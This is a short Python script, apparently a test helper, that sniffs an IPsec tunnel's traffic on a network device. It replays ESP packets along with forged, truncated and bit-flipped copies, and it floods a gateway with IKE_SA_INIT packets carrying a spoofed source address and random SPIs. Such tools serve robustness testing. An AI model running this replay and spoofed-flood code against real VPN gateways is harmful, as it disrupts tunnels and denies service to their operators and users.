"""What one who sees a tunnel's packets can send: copies of them, damaged and not.

    ike_attacker.py DEVICE OUTSIDE            waits for ESP in UDP to OUTSIDE, and sends it again,
                                              forged, truncated and with a bit flipped
    ike_attacker.py DEVICE OUTSIDE ADDRESS N  waits for IKE_SA_INIT to OUTSIDE, and sends it from
                                              ADDRESS until it is ended, each with another SPI

Prints "listening", and "sent" when it has done, or has sent N.
"""
import itertools
import os
import socket
import struct
import sys
import time

IP_BYTES = 20
UDP_BYTES = 8
SEQUENCE_AT = IP_BYTES + UDP_BYTES + 4
IKE_SA_INIT = 34
PAUSE_SECONDS = 0.0005
# What is sent is seen only by those who listen to every protocol.
ETH_P_ALL = 3


def packets(device, port):
    """Payloads from the IP header on of UDP to `port` of OUTSIDE."""
    listener = socket.socket(socket.AF_PACKET, socket.SOCK_DGRAM, socket.htons(ETH_P_ALL))
    listener.bind((device, 0))
    print('listening', flush=True)
    while True:
        packet = listener.recv(65535)
        if packet[0] == 0x45 and packet[9] == socket.IPPROTO_UDP and packet[16:20] == outside and \
                struct.unpack_from('!H', packet, IP_BYTES + 2)[0] == port:
            yield packet


def send(packet):
    """The kernel fills in total length and checksum of the IP header."""
    udp_bytes = len(packet) - IP_BYTES
    packet = packet[:IP_BYTES + 4] + struct.pack('!HH', udp_bytes, 0) + packet[IP_BYTES + 8:]
    sender.sendto(packet, (sys.argv[2], 0))


def ahead(packet, packets_ahead):
    """The packet with a number that the receiver has not seen."""
    (number,) = struct.unpack_from('!I', packet, SEQUENCE_AT)
    later = struct.pack('!I', number + packets_ahead)
    return packet[:SEQUENCE_AT] + later + packet[SEQUENCE_AT + 4:]


def damage():
    esp = next(p for p in packets(sys.argv[1], 4500) if p[28:32] != bytes(4) and len(p) > 60)
    send(esp)
    body = SEQUENCE_AT + 4
    send(ahead(esp, 1000)[:body] + os.urandom(len(esp) - body))
    flipped = bytearray(ahead(esp, 1001))
    flipped[-20] ^= 1
    send(bytes(flipped))
    send(ahead(esp, 1002)[:body + 4])


def flood(address, count):
    init = next(p for p in packets(sys.argv[1], 500)
                if p[IP_BYTES + UDP_BYTES + 18] == IKE_SA_INIT)
    for sent in itertools.count(1):
        time.sleep(PAUSE_SECONDS)
        spi = os.urandom(8)
        send(init[:12] + socket.inet_aton(address) + init[16:28] + spi + init[36:])
        if sent == count:
            print('sent', flush=True)


outside = socket.inet_aton(sys.argv[2])
sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
if len(sys.argv) == 3:
    damage()
    print('sent', flush=True)
else:
    flood(sys.argv[3], int(sys.argv[4]))
